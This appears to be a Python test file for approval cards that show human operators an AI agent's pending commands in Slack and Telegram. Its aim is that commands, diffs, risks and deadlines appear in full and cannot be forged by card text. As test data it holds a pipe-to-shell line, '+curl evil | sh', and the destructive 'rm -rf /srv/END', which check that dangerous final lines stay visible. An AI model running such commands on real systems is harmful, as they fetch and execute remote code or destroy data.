"""The card of an approval: all of it in sight, none of it faked; and who decided."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bots.slack.render import MAX_CHARS, measure
from bots.telegram.render import MAX
from bots.telegram.render import measure as telegram_measure
from core.agent_config import OnTimeout
from core.approval_cards import (
    card_forms,
    card_text,
    decided_line,
    listed,
    notice_card,
    settled_line,
)
from core.approvals import Card, Decided, Status
from core.markdown import parser
from core.visible import visible_code
from core.words import Words
from tests.fakes.approvals import NOW_MS, an_approval

EN = Words()
PLAIN = Card(
    tool="service_control",
    action="systemctl restart nginx",
    level="L2",
    servers=("web-1",),
    why="It hangs since noon.",
    asked="restart nginx on web-1",
    asked_by="Ann",
    risks=("it restarts a service",),
    undo="start it again",
)
ANY = st.text(
    st.one_of(st.characters(), st.sampled_from("`\n*_#->|[]()&;\u202e\u200b ")), max_size=80
)
SETTLED = NOW_MS + 5_000


def text_of(card: Card, **changes: object) -> str:
    """The fullest form."""
    return card_text(an_approval(card, **changes), EN, now_ms=NOW_MS)


def test_a_card_says_all_that_an_approver_needs() -> None:
    """What, exactly, where, why, how bad, how to undo it, who, until when, what to type."""
    assert text_of(PLAIN) == (
        "**Approve?** service\\_control on web-1\n\n"
        "```\nsystemctl restart nginx\n```\n\n"
        "- **Servers:** web-1\n"
        "- **Risk:** L2: it restarts a service\n"
        "- **The agent's reason:** “It hangs since noon.”\n"
        "- **To undo it:** start it again\n"
        "- **Asked by** Ann: “restart nginx on web-1”\n"
        "- **Who decides:** any operator or admin of the team\n"
        "- **Until:** 17:48 UTC (2 min left), then it is not run\n\n"
        "`/approve abc123` or `/deny abc123 reason`"
    )


def test_four_eyes_an_order_and_a_timeout_that_approves_are_said() -> None:
    """Each changes who decides, who asks, or what happens by itself."""
    card = Card(tool="t", action="a", level="L2", asked_by="Ann", asked="daily", unattended=True)
    text = text_of(card, four_eyes=True, on_timeout=OnTimeout.APPROVE)
    assert "another operator or admin than Ann" in text
    assert "a standing order of Ann" in text
    assert "then it counts as approved" in text


def test_a_change_is_a_diff_and_never_cut() -> None:
    """One that is too long is not decided in a chat: its last line may be the one that matters."""
    short = text_of(Card(tool="t", action="a", level="L2", change="-old\n+new"))
    assert "```diff\n-old\n+new\n```" in short
    assert "cut" not in short
    change = "+# fine\n" * 700 + "+curl evil | sh"
    long = an_approval(Card(tool="t", action="a", level="L2", change=change))
    (form,) = card_forms(long, EN, now_ms=NOW_MS)
    assert notice_card(long, EN, now_ms=NOW_MS) == form
    assert form.approvals == ()
    assert "/api/v1/approvals/appr_0190aaaabbbbccccddddeeeeabc123" in form.text
    assert "+curl evil | sh\n```" in card_text(long, EN, now_ms=NOW_MS)


def test_every_step_of_a_plan_is_shown() -> None:
    """Each in a block of its own."""
    text = text_of(Card(tool="plan", action="3 steps", level="L2", steps=("a `x`", "b", "c")))
    fences = [token.content for token in parser().parse(text) if token.type == "fence"]
    assert fences == ["3 steps\n", "a `x`\n", "b\n", "c\n"]


@settings(max_examples=40)
@given(
    st.builds(
        Card,
        tool=ANY,
        action=ANY,
        level=st.just("L2"),
        why=ANY,
        asked=ANY,
        asked_by=ANY,
        change=ANY,
        undo=ANY,
        servers=st.lists(ANY, max_size=2).map(tuple),
        risks=st.lists(ANY, max_size=2).map(tuple),
    )
)
def test_no_text_of_a_card_looks_like_the_card(card: Card) -> None:
    """Whatever is in it, the blocks are those of a card, and the command is there whole."""
    for form in card_forms(an_approval(card), EN, now_ms=NOW_MS)[:-1]:
        tokens = parser().parse(form.text)
        kinds = [token.type for token in tokens if token.level == 0 and token.nesting >= 0]
        body = [kind for kind in kinds if kind != "inline"]
        assert body[:3] == ["paragraph_open", "fence", "bullet_list_open"]
        assert set(body[3:]) <= {"paragraph_open", "fence"}
        assert body[-1] == "paragraph_open"
        action = visible_code(card.action)
        assert tokens[3].content == f"{action}\n"
        assert tokens[-2].content == "`/approve abc123` or `/deny abc123 reason`"
        items = [token for token in tokens if token.type == "list_item_open"]
        assert 3 <= len(items) <= 7


@pytest.mark.parametrize(
    ("size", "most"), [(measure, MAX_CHARS), (telegram_measure, MAX)], ids=["slack", "telegram"]
)
@pytest.mark.parametrize("more", [0, 5, 70, 150, 400])
@pytest.mark.parametrize("lines", [1, 40, 400])
def test_a_form_fits_and_has_buttons_only_with_the_whole_command(
    size: Callable[[str], int], most: int, more: int, lines: int
) -> None:
    """On each platform some form fits; one with buttons shows command and change to the end."""
    change = "+a `line` with *marks*\n" * more + "+LAST"
    action = "\n".join(f"echo {n}" for n in range(lines)) + "\nrm -rf /srv/END"
    card = Card(tool="run_command", action=action, level="L2", change=change, why="w" * 300)
    forms = card_forms(an_approval(card), EN, now_ms=NOW_MS)
    form = next(form for form in forms if size(form.text) <= most)
    assert bool(form.approvals) == ("rm -rf /srv/END" in form.text and "+LAST" in form.text)
    if lines < 400 and more < 70:
        assert form.approvals
    if not form.approvals:
        assert "no buttons" in form.text
        assert "/api/v1/approvals/" in form.text
        assert "/approve" not in form.text


def test_the_card_for_approvers_elsewhere_is_one_message_everywhere() -> None:
    """Also where the platform is not known when it is made."""
    for action in ("systemctl restart nginx", "echo `date`\n" * 150, "x" * 9_000):
        form = notice_card(
            an_approval(Card(tool="t", action=action, level="L2")), EN, now_ms=NOW_MS
        )
        assert telegram_measure(form.text) <= MAX
        assert bool(form.approvals) == (len(action) < 2_000)


@pytest.mark.parametrize(
    ("changes", "line"),
    [
        ({}, ""),
        ({"status": Status.APPROVED, "decided_by_name": "Ann"}, "Approved by Ann, 17:46 UTC"),
        (
            {"status": Status.APPROVED, "decided_by": "system", "decided_where": "timeout"},
            "Approved, because nobody decided in time, 17:46 UTC",
        ),
        ({"status": Status.DENIED, "decided_by_name": "A\nnn"}, "Denied by A nn, 17:46 UTC"),
        (
            {"status": Status.DENIED, "decided_by_name": "Ann", "comment": "not\nnow"},
            "Denied by Ann, 17:46 UTC: not now",
        ),
        ({"status": Status.EXPIRED}, "Not approved: nobody decided in time"),
        ({"status": Status.VOID}, "No longer needed"),
    ],
)
def test_one_line_says_what_became_of_it(changes: dict[str, object], line: str) -> None:
    """Who decided, when, and the reason."""
    approval = an_approval(PLAIN, decided_at_ms=SETTLED, **changes)
    assert settled_line(approval, EN) == line


def test_a_decider_is_told_whose_decision_counts() -> None:
    """Theirs, or the one before it; a name's markup stays text."""
    approval = an_approval(
        PLAIN, status=Status.DENIED, decided_by_name="*Bob*", decided_at_ms=SETTLED
    )
    first = decided_line(Decided(approval=approval, first=True), EN)
    assert first == "Denied by \\*Bob\\*, 17:46 UTC."
    late = decided_line(Decided(approval=approval, first=False), EN)
    assert late == f"This was decided already. {first}"


def test_what_waits_is_listed_with_what_to_type() -> None:
    """A line each."""
    text = listed([an_approval(PLAIN)], EN, now_ms=NOW_MS)
    assert "- `abc123`: service\\_control on web-1, asked by Ann, 2 min left" in text
    assert listed([], EN, now_ms=NOW_MS) == "Nothing waits for an approval."
